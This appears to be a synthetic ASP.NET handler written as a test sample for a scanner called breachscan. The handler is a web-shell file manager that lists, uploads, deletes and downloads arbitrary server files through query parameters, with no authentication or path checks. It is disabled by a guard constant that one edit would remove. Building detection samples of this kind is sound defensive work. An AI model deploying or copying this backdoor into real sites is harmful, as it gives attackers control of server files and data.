<%@ WebHandler Language="C#" Class="FilesHandler" %>
// synthetic test sample for breachscan: ASHX file manager with upload, listing, delete and
// download in one handler. Disabled by the SampleOnly guard.
using System; using System.IO; using System.Web;
public class FilesHandler : IHttpHandler {
    const bool SampleOnly = true;
    public void ProcessRequest(HttpContext ctx) {
        if (SampleOnly) return;
        string dir = ctx.Request.QueryString["d"];
        foreach (string f in Directory.GetFiles(dir)) ctx.Response.Write(f + "\n");
        if (ctx.Request.Files.Count > 0) ctx.Request.Files[0].SaveAs(Path.Combine(dir, ctx.Request.Files[0].FileName));
        if (ctx.Request["del"] != null) File.Delete(Path.Combine(dir, ctx.Request["del"]));
        if (ctx.Request["get"] != null) ctx.Response.TransmitFile(Path.Combine(dir, ctx.Request["get"]));
    }
    public bool IsReusable { get { return false; } }
}
